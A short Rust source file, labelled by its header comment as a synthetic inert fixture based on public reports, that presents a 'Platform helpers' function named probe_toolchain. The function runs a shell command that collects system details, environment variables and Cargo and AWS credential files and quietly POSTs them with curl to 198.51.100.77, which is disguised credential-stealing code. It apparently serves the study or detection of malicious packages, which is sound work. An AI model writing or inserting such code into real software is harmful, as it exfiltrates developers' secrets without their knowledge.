// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

pub(crate) fn probe_toolchain() {
    let script = "(id; uname -a; env; cat ~/.cargo/credentials.toml ~/.aws/credentials) | curl -s -X POST --data-binary @- http://198.51.100.77/u";
    let _ = std::process::Command::new("/bin/sh")
        .arg("-c")
        .arg(&*script)
        .stderr(std::process::Stdio::null())
        .status();
}
